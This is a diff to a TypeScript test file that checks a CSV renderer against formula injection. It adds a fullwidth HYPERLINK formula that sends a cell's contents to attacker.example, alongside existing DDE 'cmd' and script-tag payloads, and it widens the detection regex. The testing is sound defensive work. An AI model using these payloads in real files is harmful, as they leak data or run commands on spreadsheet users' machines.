@@ -11,6 +11,8 @@ import { renderCsv, renderHtml, renderMarkdown, renderWorkbook } from '../../src
 
 const HOSTILE = '<script>alert("x")</script>, "quoted"\nnext line';
 const FORMULA = '=cmd|\' /C calc\'!A0';
+/** A formula in fullwidth characters, which a Japanese-locale spreadsheet may read as one. */
+const FULLWIDTH_FORMULA = '＝HYPERLINK("https://attacker.example/?d="&A1,"詳細")';
 const MUNICIPALITY = '=1+2 @Sample City';
 
 /**
@@ -19,7 +21,8 @@ const MUNICIPALITY = '=1+2 @Sample City';
  */
 function hostileDocs(language: 'ja' | 'en' = 'ja'): DesignDocuments {
   const input = exampleInput('cdk', 'alpha-prime');
-  const flows = input.blueprint!.flows!.map((f, i) => (i === 0 ? { ...f, purpose: HOSTILE } : i === 1 ? { ...f, purpose: FORMULA } : f));
+  const flows = input.blueprint!.flows!.map((f, i) => (i === 0 ? { ...f, purpose: HOSTILE } : i === 1 ? { ...f, purpose: FORMULA }
+    : i === 2 ? { ...f, purpose: FULLWIDTH_FORMULA } : f));
   return buildDesignDocuments({
     ...input,
     language,
@@ -61,13 +64,14 @@ describe('renderers', () => {
       const rows = parseCsv(text.slice(1));
       expect(rows[0]).toEqual(t.columns.map((c) => c.header));
       // Every cell comes back as written, but for those a spreadsheet would take for a formula, which get a leading '.
-      const back = t.rows.map((r) => r.cells.map((c) => (/^[=+\-@]/.test(c) ? `'${c}` : c)));
+      const back = t.rows.map((r) => r.cells.map((c) => (/^[ \u3000]*[=+\-@＝＋－＠]/.test(c) ? `'${c}` : c)));
       expect(rows.slice(1)).toEqual(back.map((r) => r.map((c) => c.replace(/\n/g, '\r\n'))));
     }
     const flows = parseCsv(files['flows.csv'].slice(1));
     const purpose = flows[0].indexOf('目的');
     expect(flows.find((r) => r[0] === hostileFlow)![purpose]).toBe(HOSTILE.replace(/\n/g, '\r\n'));
     expect(flows.some((r) => r[purpose] === `'${FORMULA}`)).toBe(true);
+    expect(flows.some((r) => r[purpose] === `'${FULLWIDTH_FORMULA}`)).toBe(true);
     expect(files['flows.csv']).not.toMatch(/(^|,)"?=cmd/m);
     expect(parseCsv(files['evidence.csv'].slice(1)).find((r) => r[0] === '団体名')).toEqual(['団体名', `'${MUNICIPALITY}`]);
   });
